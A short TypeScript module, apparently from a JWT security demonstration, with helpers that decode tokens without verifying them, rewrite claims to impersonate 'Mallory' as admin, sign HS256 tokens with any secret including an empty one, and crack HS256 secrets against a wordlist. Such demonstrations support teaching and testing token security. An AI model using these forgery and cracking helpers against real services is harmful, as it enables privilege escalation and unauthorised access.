import { createHmac } from "node:crypto";
import { decodeWithoutVerifying } from "@/lib/evidence/decode-token";

/** Taken apart, as anyone can who holds it. */
export function open(token: string): {
  header: Record<string, unknown>;
  claims: Record<string, unknown>;
  parts: [string, string, string];
} {
  const decoded = decodeWithoutVerifying(token);
  if (!decoded) throw new TypeError("This is not a token.");
  return { ...decoded, parts: token.split(".") as [string, string, string] };
}

export function encode(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString("base64url");
}

/** What the attacker wants to be taken for. */
export function mallory(claims: Record<string, unknown>): Record<string, unknown> {
  return { ...claims, name: "Mallory", role: "admin" };
}

/** HS256 with any text as the secret: the empty one too, which jose would refuse. */
export function signWith(secret: string, header: object, claims: object): string {
  const signed = `${encode(header)}.${encode(claims)}`;
  return `${signed}.${createHmac("sha256", secret).update(signed).digest("base64url")}`;
}

/** @returns the secret of an HS256 token, when it is one of these words */
export function crack(token: string, words: readonly string[]): string | null {
  const [head, body, signature] = token.split(".");
  const matches = (word: string) =>
    createHmac("sha256", word).update(`${head}.${body}`).digest("base64url") === signature;
  return words.find(matches) ?? null;
}
